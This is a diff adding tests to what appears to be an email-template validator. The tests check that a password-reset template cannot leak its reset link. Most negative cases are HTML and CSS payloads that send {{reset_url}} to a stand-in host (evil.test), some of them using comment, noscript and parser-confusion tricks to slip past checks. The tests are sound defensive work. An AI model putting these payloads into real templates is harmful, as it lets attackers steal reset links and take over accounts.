@@ -168,3 +168,53 @@ test('marketing that is a whole document must contain the unsubscribe link', () 
   expect(problemsOf(builtInTemplates.newsletter, texts)).toHaveLength(1)
   expect(problemsOf(builtInTemplates.newsletter, linked)).toEqual([])
 })
+
+describe('a message with access to an account', () => {
+  const secret = builtInTemplates['reset-password']
+  const withHtml = (html: string) => problemsOf(secret, { ...secret, html: `${secret.html}\n${html}` })
+
+  test.each([
+    '<p>{{reset_url}}</p>',
+    '<p>Open ({{reset_url}}), or call us.</p>',
+    `<a class="button" href='{{reset_url}}' title="Reset">Reset</a>`,
+    '<style>a > b { color: red }</style><p title="a > b">{{reset_url}}</p>',
+    '{{#if full_name}}<p>{{full_name}}</p>{{else}}<b>You</b>{{/if}} {{reset_url}}',
+    '2 < 3 {{reset_url}}',
+    '<img src="{{site_url}}/logo.png" alt="{{full_name}}">',
+  ])('may hold %s', (html) => {
+    expect(withHtml(html)).toEqual([])
+  })
+
+  test.each([
+    '<img src="https://evil.test/?{{reset_url}}">',
+    '<img src="https://evil.test/?{{[reset_url]}}">',
+    '<img src={{reset_url}}>',
+    `<img src='https://evil.test/? href="{{reset_url}}"'>`,
+    '<img alt=">" src="https://evil.test/? {{reset_url}} ">',
+    '<img alt=a>b src="https://evil.test/">https://evil.test/?{{reset_url}}',
+    '<img src="https://evil.test/?\n{{reset_url}}',
+    `<img src='https://evil.test/?{{#if site_url}}{{else}}'>{{/if}} {{reset_url}} '>`,
+    `<!--><img src='https://evil.test/?--> {{reset_url}} '>`,
+    `<!--[if mso]><img src='https://evil.test/?<![endif]--> {{reset_url}} '>`,
+    `<noscript><img src='https://evil.test/?</noscript> {{reset_url}} '>`,
+    `<{{full_name}} src='https://evil.test/? {{reset_url}} '>`,
+    '<style>p { background: url( {{reset_url}} ) }</style>',
+    '<link href="{{reset_url}}">',
+    '<a href="https://evil.test/" data-href="{{reset_url}}">Reset</a>',
+    '<a href="https://evil.test/?{{reset_url}}">Reset</a>',
+    '<form action="https://evil.test/"><textarea name="a"> {{reset_url}} </textarea></form>',
+    'https://evil.test/? {{~reset_url}}',
+    'https://evil.test/?({{reset_url}})',
+  ])('may not hold %s', (html) => {
+    expect(withHtml(html)).not.toEqual([])
+  })
+
+  test('has its link by itself in plain text too', () => {
+    const withText = (text: string) => problemsOf(secret, { ...secret, text: `${secret.text}\n${text}` })
+    expect(withText('2 < 3: {{reset_url}}')).toEqual([])
+    for (const text of ['https://evil.test/?{{reset_url}}', 'https://evil.test/? {{~reset_url}}'])
+      expect(withText(text)).toMatchObject([
+        { field: 'text_template', line: secret.text.split('\n').length + 1 },
+      ])
+  })
+})
